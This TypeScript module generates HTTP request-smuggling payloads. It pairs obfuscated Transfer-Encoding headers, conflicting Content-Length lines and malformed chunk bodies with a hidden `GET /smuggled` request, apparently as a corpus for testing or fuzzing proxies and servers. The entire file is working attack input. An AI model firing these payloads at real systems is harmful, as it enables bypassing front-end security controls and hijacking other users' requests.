// Requests about whose end a proxy and the server behind it might disagree, with a second request `GET /smuggled` inside.
// What the server receives as that request, without having passed the proxy as one, was smuggled.

const SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n";
const HEAD = "POST /plain HTTP/1.1\r\nHost: x\r\n";

/** Spellings of `Transfer-Encoding` that some parsers take for chunked and others do not. */
const CODINGS = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:\x0bchunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunKed",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding: chunked;a",
  " Transfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding\0: chunked",
  "Transfer-Encoding: chunked\0",
  "Transfer-Encoding: \xffchunked",
  "transfer-encoding: CHUNKED",
];
/** Spellings of a length that some parsers read as another one. `N` is that of the whole body. */
const LENGTHS = [
  "Content-Length: 0\r\nContent-Length: N",
  "Content-Length: N\r\nContent-Length: 0",
  "Content-Length: +N",
  "Content-Length: 0x0\r\nContent-Length: N",
  "Content-Length : N",
  "Content-Length: N, 0",
  "Content-Length: 0, N",
  "Content-Length: 0\n",
  "Content-Length:\tN\x0b",
  "Content-Length: -1",
  "Content_Length: N",
  " Content-Length: N",
];
/** Bodies in chunks that end early or late for a parser that is too mild. */
const CHUNKS = [
  `0\r\n\r\n`,
  `0\n\n`,
  `0 \r\n\r\n`,
  `+0\r\n\r\n`,
  `0;\n\r\n\r\n`,
  `0;a="\r\n\r\n`,
  `0_0\r\n\r\n`,
  `100000000\r\n\r\n`,
  `2\r\nxx0\r\n\r\n`,
  `2\r\nxx\n0\r\n\r\n`,
  `0\r\nA: b\n\r\n`,
  `0\r\nContent-Length: 5\r\n\r\n`,
];

/** For parsers that use the length, the second request is in the body; for others it follows the last chunk, … */
const byLength = (coding: string): string => {
  const body = `0\r\n\r\n${SMUGGLED}`;
  return `${HEAD}Content-Length: ${body.length}\r\n${coding}\r\n\r\n${body}`;
};
/** … or the other way round. */
const byChunks = (coding: string): string => {
  const chunk = `${SMUGGLED.length.toString(16)}\r\n`;
  return `${HEAD}Content-Length: ${chunk.length}\r\n${coding}\r\n\r\n${chunk}${SMUGGLED}\r\n0\r\n\r\n`;
};

export const DESYNC_PAYLOADS: readonly string[] = [
  ...CODINGS.map(byLength),
  ...CODINGS.map(byChunks),
  ...LENGTHS.map((line) => `${HEAD}${line.replaceAll("N", `${SMUGGLED.length}`)}\r\n\r\n${SMUGGLED}`),
  ...CHUNKS.map((chunks) => `${HEAD}Transfer-Encoding: chunked\r\n\r\n${chunks}${SMUGGLED}`),
];
